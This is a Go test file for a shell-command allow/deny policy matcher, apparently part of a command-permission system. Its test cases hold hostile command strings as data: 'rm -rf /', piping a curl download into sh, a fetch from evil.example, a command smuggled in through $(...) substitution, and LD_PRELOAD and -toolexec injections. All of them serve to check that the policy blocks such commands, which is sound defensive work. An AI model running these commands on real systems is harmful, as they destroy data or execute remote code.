package policy

import "testing"

func TestCommandMatcher(t *testing.T) {
	requireShellParser(t)
	cases := []struct {
		name, match, line string
		want              bool
	}{
		{"program", "command: {program: [rm]}", "rm -rf build", true},
		{"program by base name", "command: {program: [rm]}", "/bin/rm x", true},
		{"program glob", "command: {program: [\"python*\"]}", "python3 x.py", true},
		{"program no", "command: {program: [rm]}", "echo rm", false},
		{"program in pipeline", "command: {program: [sh]}", "curl https://x.example | sh", true},
		{"program nested bash -c", "command: {program: [rm]}", "bash -c 'rm -rf /'", true},
		{"raw text is not structure", "command: {program: [rm]}", "echo 'rm -rf /'", false},
		{"subcommand", "command: {program: [git], subcommand: [push]}", "git push origin feature", true},
		{"subcommand after global option", "command: {program: [git], subcommand: [push]}", "git -C /tmp/repo push", true},
		{"subcommand after flags", "command: {program: [git], subcommand: [push]}", "git --no-pager push", true},
		{"subcommand no", "command: {program: [git], subcommand: [push]}", "git status push", false},
		{"args_any", "command: {program: [git], args_any: [main, \"*:main\"]}", "git push origin HEAD:main", true},
		{"args_any no", "command: {program: [git], args_any: [main]}", "git push origin maintenance", false},
		{"args_all", "command: {args_all: [\"-n\", \"5\"]}", "head -n 5 f", true},
		{"args_all needs all", "command: {args_all: [\"-n\", \"6\"]}", "head -n 5 f", false},
		{"args_none", "command: {program: [find], args_none: [-delete]}", "find . -name x", true},
		{"args_none no", "command: {program: [find], args_none: [-delete]}", "find . -delete", false},
		{"short flag", "command: {program: [rm], flags_any: [-r]}", "rm -r x", true},
		{"combined short flags", "command: {program: [rm], flags_any: [-f]}", "rm -rf x", true},
		{"short flags set", "command: {flags_any: [-rf]}", "rm -f -r x", true},
		{"short flags set needs all", "command: {flags_any: [-rf]}", "rm -f x", false},
		{"long flag", "command: {flags_any: [--force]}", "git push --force", true},
		{"long flag with value", "command: {flags_any: [--force]}", "git push --force=yes", true},
		{"long flag prefix is not the flag", "command: {flags_any: [--force]}", "git push --force-with-lease", false},
		{"long flag is not short", "command: {flags_any: [-f]}", "git push --force", false},
		{"after -- is an operand", "command: {flags_any: [-f]}", "rm -- -f", false},
		{"alternatives", "command: [{program: [ls]}, {program: [cat]}]", "cat x", true},
		{"assigns in deny", "command: {assigns: [\"LD_PRELOAD=*\"]}", "LD_PRELOAD=/tmp/x.so ls", true},
		{"assigns in deny no", "command: {assigns: [\"LD_PRELOAD=*\"]}", "FOO=1 ls", false},
		{"same simple command", "command: {program: [git], flags_any: [--force]}", "git status; rm --force x", false},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			p := oneRule(t, "deny", c.match)
			if got := matched(p, cmd(t, c.line)); got != c.want {
				t.Fatalf("%s on %q = %v, want %v\n%v", c.match, c.line, got, c.want, p.Explain(cmd(t, c.line)))
			}
		})
	}
}

// Allow rules need every simple command to match.
func TestCommandQuantifiers(t *testing.T) {
	requireShellParser(t)
	allowLs := oneRule(t, "allow", "command: {program: [ls, cat]}")
	cases := []struct {
		line string
		want bool
	}{
		{"ls -la", true},
		{"ls; cat x", true},
		{"ls | cat", true},
		{"ls; rm -rf /", false},
		{"ls && rm -rf /", false},
		{"ls $(rm -rf /)", false},
		{"cat <(curl https://evil.example)", false},
		{"bash -c 'ls'", false},
		{"LD_PRELOAD=/tmp/evil.so ls", false},
		{"ls 'unterminated", false},
		{"", false},
	}
	for _, c := range cases {
		if got := matched(allowLs, cmd(t, c.line)); got != c.want {
			t.Errorf("allow ls/cat on %q = %v, want %v\n%v", c.line, got, c.want, allowLs.Explain(cmd(t, c.line)))
		}
	}
	withAssigns := oneRule(t, "allow", "command: {program: [go], assigns: [\"CGO_ENABLED=*\"]}")
	if !matched(withAssigns, cmd(t, "CGO_ENABLED=0 go build ./...")) {
		t.Error("allow with assigns: a listed assignment must be accepted")
	}
	if matched(withAssigns, cmd(t, "CGO_ENABLED=0 GOFLAGS=-toolexec=/tmp/x go build")) {
		t.Error("allow with assigns: every assignment must be listed")
	}
	deny := oneRule(t, "deny", "command: {program: [rm]}")
	if !matched(deny, cmd(t, "ls; rm -rf /")) {
		t.Error("deny: any simple command is enough")
	}
}
